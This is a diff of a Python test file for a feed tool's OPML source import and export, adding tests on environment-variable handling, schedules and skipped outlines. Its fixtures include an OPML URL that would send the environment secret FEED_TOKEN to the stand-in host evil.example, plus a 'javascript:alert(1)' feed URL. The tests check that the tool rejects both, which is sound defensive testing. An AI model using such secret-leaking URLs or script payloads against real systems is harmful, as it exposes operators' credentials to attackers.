@@ -16,6 +16,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 from lxml import etree
 
 from syndication import config as cfg
@@ -114,12 +115,20 @@ def test_export_then_import_gives_back_the_same_sources(
     opml = tmp_path / "sources.opml"
 
     export = run_cli("sources", "export", "--config", str(exported), "--output", str(opml))
-    result = run_cli("sources", "import", str(opml), "--config", str(imported))
+    # Our own export's `${TOKEN}` URL: let through only on request.
+    refused = run_cli("sources", "import", str(opml), "--dry-run", "--config", str(imported))
+    result = run_cli("sources", "import", str(opml), "--allow-env", "--config", str(imported))
 
     assert export.code == 0, export.output
     assert "skipped newsroom" in export.stderr and "no feed URL" in export.stderr
+    assert refused.code == 0 and "3 would be added, 1 skipped" in refused.stdout, refused.output
+    assert "reads the environment variable TOKEN; pass --allow-env" in refused.stdout
     assert result.code == 0, result.output
-    assert "4 source(s) added" in result.stdout and "syndication reload" in result.stdout
+    assert "4 source(s) added" in result.stdout and "ignored" not in result.stdout
+    assert result.stdout.rstrip().endswith(
+        "a running worker picks the new sources up within seconds (or now: `syndication reload`)"
+    )
+    assert "SIGHUP" not in result.stdout
     root = etree.parse(str(opml)).getroot()
     assert root.tag == "opml" and root.get("version") == "2.0"
     assert root.findtext("head/title")
@@ -129,10 +138,114 @@ def test_export_then_import_gives_back_the_same_sources(
     assert [o.get(f"{{{NS}}}id") for o in outlines] == ids
     assert all(o.get("type") == "rss" and o.get("text") for o in outlines)
     assert outlines[0].get("language") == "en" and outlines[0].get(f"{{{NS}}}every") == "10m"
+    # Always with a unit: written as a number, or inherited from `fetch.every`; a cron source
+    # has its cron only.
+    every = {o.get(f"{{{NS}}}id"): o.get(f"{{{NS}}}every") for o in outlines}
+    assert every == {"kazinform-en": "10m", "tengri": None, "xinhua": "3600s", "yes-feed": "5m"}
+    assert outlines[1].get(f"{{{NS}}}cron") == "*/5 6-23 * * *"
+    written = {s["id"]: s for s in yaml.safe_load(imported.read_text(encoding="utf-8"))["sources"]}
+    assert "every" not in written["tengri"] and written["yes-feed"]["every"] == "5m"
     expected, got = _sources(exported), _sources(imported)
     assert list(got) == list(expected) == ["newsroom", *ids]
     del expected["newsroom"], got["newsroom"]  # local: not exported, and not the same folder
     assert got == expected
+
+
+def test_an_opml_that_reads_the_environment_is_skipped(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A stranger's `${FEED_TOKEN}` would send the operator's secret to its own host (URL) or
+    publish it (title): skipped; with --allow-env, a URL's only, never a title's or setting's."""
+    config = write_config(tmp_path)
+    opml = _opml(
+        tmp_path,
+        '<outline text="x" xmlUrl="https://evil.example/c?k=${FEED_TOKEN}"/>\n'
+        '<outline text="title ${FEED_TOKEN}" xmlUrl="https://evil.example/titled"/>\n'
+        '<outline text="Own" title="Own ${A} ${B:-b}" xmlUrl="https://x.example/${C}"/>\n'
+        '<outline text="Rights" xmlUrl="https://evil.example/r" syndication:id="r"\n'
+        '         syndication:rights="${FEED_TOKEN}"/>\n'
+        '<outline text="Tengri" xmlUrl="https://tengrinews.kz/rss/"/>',
+    )
+    env = {"FEED_TOKEN": SECRET}
+
+    plain = run_cli("sources", "import", str(opml), "--config", str(config), env=env)
+
+    assert plain.code == 0, plain.output
+    after = config.read_text(encoding="utf-8")
+    assert "${" not in after and SECRET not in after
+    assert list(_sources(config)) == ["newsroom", "tengri"]
+    assert (
+        "skipped line 5 'x' (https://evil.example/c?k=${FEED_TOKEN}): its URL reads the "
+        "environment variable FEED_TOKEN; pass --allow-env if this file is your own "
+        "`sources export`"
+    ) in plain.stdout
+    assert (
+        "skipped line 6 'title ${FEED_TOKEN}' (https://evil.example/titled): its text reads "
+        "the environment variable FEED_TOKEN; only a feed URL may use ${…}"
+    ) in plain.stdout
+    assert "its title reads the environment variables A, B;" in plain.stdout
+    assert "its syndication:rights reads the environment variable FEED_TOKEN" in plain.stdout
+    assert "1 source(s) added" in plain.stdout and "4 skipped" in plain.stdout
+    assert SECRET not in plain.output
+
+    allowed = run_cli(
+        "sources", "import", str(opml), "--allow-env", "--config", str(config), env=env
+    )
+
+    assert allowed.code == 0, allowed.output
+    assert "added x: https://evil.example/c?k=${FEED_TOKEN}" in allowed.stdout
+    assert "1 source(s) added" in allowed.stdout and "4 skipped" in allowed.stdout
+    assert allowed.stdout.count("only a feed URL may use") == 3
+    # The one `${` written is the URL's; no title or setting reads the environment.
+    text = config.read_text(encoding="utf-8")
+    assert [line for line in text.splitlines() if "${" in line] == [
+        "  url: https://evil.example/c?k=${FEED_TOKEN}"
+    ], text
+    monkeypatch.setenv("FEED_TOKEN", SECRET)
+    assert all(SECRET not in (s["title"] or "") for s in _sources(config).values())
+    assert SECRET not in allowed.output
+
+
+def test_an_outline_with_both_every_and_cron_is_imported_with_cron_only(tmp_path: Path) -> None:
+    # As `sources export` wrote a cron source before it gave the cron alone.
+    config = write_config(tmp_path, fetch={"every": "15m"})
+    opml = _opml(
+        tmp_path,
+        '<outline text="tengri" xmlUrl="https://tengrinews.kz/rss/" syndication:id="tengri"\n'
+        '         syndication:every="600" syndication:cron="*/5 6-23 * * *"\n'
+        '         syndication:rights="full"/>\n'
+        '<outline text="Kazinform" xmlUrl="https://www.inform.kz/rss/en.xml"\n'
+        '         syndication:cron="0 * * * *"/>',
+    )
+
+    result = run_cli("sources", "import", str(opml), "--every", "30m", "--config", str(config))
+
+    assert result.code == 0, result.output
+    assert "its syndication:every ignored: syndication:cron gives the schedule" in result.stdout
+    written = yaml.safe_load(config.read_text(encoding="utf-8"))["sources"]
+    assert written[1:] == [
+        {"id": "tengri", "url": "https://tengrinews.kz/rss/", "cron": "*/5 6-23 * * *",
+         "rights": "full"},
+        {"id": "kazinform", "url": "https://www.inform.kz/rss/en.xml", "title": "Kazinform",
+         "cron": "0 * * * *"},
+    ]  # fmt: skip
+
+
+def test_an_opml_with_no_feed_url_lists_what_it_skipped(tmp_path: Path) -> None:
+    config = write_config(tmp_path)
+    before = config.read_bytes(), config.stat().st_mtime_ns
+    opml = _opml(
+        tmp_path,
+        '<outline text="Folder">\n  <outline text="A page" htmlUrl="https://a.example/"/>\n'
+        "</outline>",
+    )
+
+    result = run_cli("sources", "import", str(opml), "--config", str(config))
+
+    assert result.code == 0, result.output
+    assert "skipped line 6 'A page': no feed URL (xmlUrl)" in result.stdout
+    assert "no outline with a feed URL (xmlUrl)" in result.stdout and "Folder" not in result.stdout
+    assert (config.read_bytes(), config.stat().st_mtime_ns) == before
 
 
 def test_a_secret_url_is_exported_as_its_template_never_its_value(tmp_path: Path) -> None:
@@ -292,7 +405,8 @@ def test_outlines_in_nested_folders_are_imported_with_readable_ids(tmp_path: Pat
          syndication:every="45m"/>
 <outline text="Gopher" xmlUrl="gopher://old.example/feed"/>
 <outline text="Script" xmlUrl="javascript:alert(1)"/>
-<outline text="Just a link" htmlUrl="https://example.kz/"/>""",
+<outline text="Just a link" htmlUrl="https://example.kz/"/>
+<outline text="Empty folder"></outline>""",
     )
 
     result = run_cli(
@@ -320,7 +434,11 @@ def test_outlines_in_nested_folders_are_imported_with_readable_ids(tmp_path: Pat
     assert "id 'newsroom' is taken" in result.stdout
     assert "language 'English' is not a language tag" in result.stdout
     assert result.stdout.count("not an http(s) feed URL") == 2
-    assert "5 source(s) added" in result.stdout and "2 skipped" in result.stdout
+    # A leaf with no feed URL is reported; folders are not (they are read through).
+    assert "skipped line 20 'Just a link': no feed URL (xmlUrl)" in result.stdout
+    assert "Empty folder" in result.stdout  # no child outlines: a leaf too
+    assert "'News'" not in result.stdout and "'Kazakhstan'" not in result.stdout
+    assert "5 source(s) added" in result.stdout and "4 skipped" in result.stdout
 
 
 def test_dry_run_shows_the_yaml_and_changes_nothing(tmp_path: Path) -> None:
